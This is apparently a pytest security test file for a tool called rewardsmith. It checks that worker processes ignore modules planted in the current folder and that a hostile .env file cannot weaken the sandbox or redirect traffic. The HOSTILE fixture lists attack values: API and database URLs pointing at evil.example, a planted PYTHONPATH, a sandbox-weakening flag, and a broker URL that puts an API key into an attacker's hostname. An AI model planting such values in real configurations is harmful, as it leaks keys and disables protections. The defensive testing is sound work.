"""The current folder: no process imports from it, and its .env file cannot weaken security."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from running import clean_environment, in_process, plant_modules, rewardsmith

from rewardsmith.config import Settings, as_environment, settings
from rewardsmith.engine.interpreter import SAFE_PATH, module_command
from rewardsmith.errors import UsageError
from rewardsmith.place import find_place
from workers.host import Host, command_of

ROOT = Path(__file__).parents[2]


@pytest.fixture
def folder_with_planted_modules(tmp_path) -> Path:
    """A folder with a module of every name that a process might import; each records that it ran."""
    plant_modules(tmp_path, tmp_path / "ran")
    return tmp_path


def modules_that_ran(folder: Path) -> str:
    return (folder / "ran").read_text() if (folder / "ran").exists() else ""


def test_planted_modules_would_run_without_the_flag(folder_with_planted_modules):
    subprocess.run(
        [sys.executable, "-m", "workers.local", "--help"], cwd=folder_with_planted_modules, capture_output=True
    )
    assert modules_that_ran(folder_with_planted_modules)


@pytest.mark.parametrize(
    ("module", "arguments"),
    [
        ("workers.local", ["nojob"]),
        ("workers.trial", ["1", "me", "1"]),
        ("workers.host", ["--queue", "none"]),
        ("workers.scheduler", []),
        ("workers.alive", []),
    ],
)
def test_no_started_process_imports_from_the_current_folder(folder_with_planted_modules, module, arguments):
    ran = subprocess.run(
        module_command(module, *arguments), cwd=folder_with_planted_modules, capture_output=True, text=True, timeout=60,
        env=clean_environment() | {"REWARDSMITH_HOME": str(folder_with_planted_modules / "home")},
    )  # fmt: skip
    assert (ran.returncode != 0 and "no rewardsmith database" in ran.stderr) or module == "workers.host", ran.stderr
    assert modules_that_ran(folder_with_planted_modules) == ""


def test_a_whole_job_imports_nothing_from_the_current_folder(small_job):
    """The folder held a module of every name in PLANTED while the job ran."""
    assert small_job.imported == ""


def test_celery_runs_in_a_folder_without_write_permission(monkeypatch, tmp_path):
    """Celery puts its folder on the path, even with Python's safe-path flag."""
    monkeypatch.chdir(tmp_path)
    started = []
    monkeypatch.setattr("workers.host.subprocess.Popen", lambda command, **options: started.append((command, options)))
    Host({"train": 1}, Settings(home=Path("here")), "kernel")._keep_alive()
    ((command, options),) = started
    assert command == command_of("train", 1) and command[1:4] == ["-P", "-m", "celery"]
    assert options["cwd"] == "/" and options["env"]["REWARDSMITH_HOME"] == str(tmp_path / "here")
    assert SAFE_PATH.items() <= options["env"].items()


def test_settings_are_the_same_in_another_folder(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    Path(".env").write_text("REWARDSMITH_SLOTS=3\nREWARDSMITH_ARTIFACTS_URL=files\nREWARDSMITH_DEVICES=0,1\n")
    monkeypatch.setenv("REWARDSMITH_LEASE_SECONDS", "7.5")
    names = ("slots", "devices", "lease_seconds", "store_url", "url", "artifacts", "allow_weak_sandbox")
    here = {name: getattr(Settings(), name) for name in names}
    reported = as_environment(Settings())
    Path("other").mkdir()
    monkeypatch.chdir("other")
    for name, value in reported.items():
        monkeypatch.setenv(name, value)
    assert {name: getattr(Settings(), name) for name in names} == here


def test_started_interpreters_leave_the_current_folder_off_their_path():
    places = [p for folder in ("rewardsmith", "workers", "sandbox") for p in ROOT.glob(f"{folder}/**/*.py")]
    found = {str(p.relative_to(ROOT)) for p in places if "sys.executable" in p.read_text()}
    assert found == {"rewardsmith/engine/interpreter.py", "sandbox/process.py"}
    assert '"-P",' in (ROOT / "sandbox" / "process.py").read_text()
    assert "PYTHONSAFEPATH=1" in (ROOT / "Dockerfile").read_text()
    recipes = (ROOT / "Makefile").read_text() + (ROOT / "docker-compose.yml").read_text()
    assert not re.search(r"-m,? (rewardsmith|workers)", recipes.replace("-P, -m, workers.alive", ""))


HOSTILE = """
REWARDSMITH_ALLOW_WEAK_SANDBOX=1
REWARDSMITH_API_BASE=http://evil.example/v1
rewardsmith_database_url=postgresql+psycopg://evil.example/rewardsmith
OPENAI_API_BASE=http://evil.example/v1
OPENAI_BASE_URL=http://evil.example/v1
PYTHONPATH=/srv/evil
SANDBOX_WRAPPER=true
REWARDSMITH_SLOTS=3
REWARDSMITH_BROKER_URL=redis://${PLANTED_API_KEY}.evil.example/0
EXAMPLE_API_KEY=sk-planted-2
"""


@pytest.fixture
def folder_with_hostile_env(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PLANTED_API_KEY", "sk-planted-1")
    for name in ("HOME", "DATABASE_URL", "API_BASE", "ALLOW_WEAK_SANDBOX", "BROKER_URL", "ENV_FILE_ANNOUNCED"):
        monkeypatch.delenv(f"REWARDSMITH_{name}", raising=False)
    Path(".env").write_text(HOSTILE)
    settings.cache_clear()
    yield tmp_path
    settings.cache_clear()


def test_env_file_cannot_lower_the_sandbox_or_redirect_keys(folder_with_hostile_env, capfd):
    for chosen in (Settings(), settings()):
        assert (chosen.allow_weak_sandbox, chosen.api_base, chosen.database_url) == (False, None, None)
        assert chosen.slots == 3 and chosen.broker_url == "redis://${PLANTED_API_KEY}.evil.example/0"
    assert find_place().url == f"sqlite:///{folder_with_hostile_env}/.rewardsmith/rewardsmith.db"
    reported = capfd.readouterr()
    assert (
        reported.out == ""
        and "sk-planted" not in reported.err
        and "evil" not in reported.err.replace(str(folder_with_hostile_env), "")
    )
    sets, refuses = reported.err.splitlines()
    assert sets.endswith("sets EXAMPLE_API_KEY, REWARDSMITH_BROKER_URL, REWARDSMITH_SLOTS")
    refused = "REWARDSMITH_ALLOW_WEAK_SANDBOX, REWARDSMITH_API_BASE, REWARDSMITH_DATABASE_URL"
    assert "may not set" in refuses and refuses.endswith(refused)


def test_environment_variables_override_the_env_file(folder_with_hostile_env, monkeypatch):
    monkeypatch.setenv("REWARDSMITH_API_BASE", "http://localhost:8000/v1")
    monkeypatch.setenv("REWARDSMITH_ALLOW_WEAK_SANDBOX", "1")
    monkeypatch.setenv("REWARDSMITH_SLOTS", "5")
    chosen = Settings()
    assert (chosen.api_base, chosen.allow_weak_sandbox, chosen.slots) == ("http://localhost:8000/v1", True, 5)


def test_child_processes_do_not_repeat_the_notice(folder_with_hostile_env, capfd):
    settings()
    assert "REWARDSMITH_SLOTS" in capfd.readouterr().err
    assert "REWARDSMITH_SLOTS" not in rewardsmith(folder_with_hostile_env, "db", "upgrade").stderr


def test_the_notice_about_the_env_file_goes_to_stderr(folder_with_hostile_env):
    (folder_with_hostile_env / ".env").write_text("REWARDSMITH_SLOTS=1\nREWARDSMITH_API_BASE=http://evil.example\n")
    ran = in_process(folder_with_hostile_env, "tasks", "list", "--format", "json")
    assert ran.stderr.count("sets REWARDSMITH_SLOTS") == 1 and ran.stderr.count("REWARDSMITH_API_BASE") == 1
    assert "evil" not in ran.stderr.replace(str(folder_with_hostile_env), "") and ran.stdout.startswith("[")


def test_litellm_reads_no_file_by_itself(tmp_path):
    """litellm would search above its own folder, where a project with a .venv keeps its .env file."""
    script = (
        "import dotenv, os\n"
        "def refused(*a, **k): raise SystemExit('it reads a .env file')\n"
        "dotenv.load_dotenv = refused\n"
        "from rewardsmith.agents.pricing import import_litellm\n"
        "import_litellm()\n"
    )
    ran = subprocess.run([sys.executable, "-P", "-c", script], cwd=tmp_path, capture_output=True, text=True)
    assert ran.returncode == 0, ran.stderr


@pytest.mark.parametrize("content", [b"\xff\xfe\x00A=1", b"A=1\n" * 50_000], ids=["no text", "too long"])
def test_an_unreadable_env_file_is_an_error_for_the_user(folder_with_hostile_env, content):
    (folder_with_hostile_env / ".env").write_bytes(content)
    with pytest.raises(UsageError, match=r"\.env cannot be read"):
        settings()
    assert in_process(folder_with_hostile_env, "ls").returncode == 2


def test_a_pipe_in_place_of_the_env_file_is_not_waited_for(folder_with_hostile_env):
    (folder_with_hostile_env / ".env").unlink()
    os.mkfifo(folder_with_hostile_env / ".env")
    assert Settings().slots
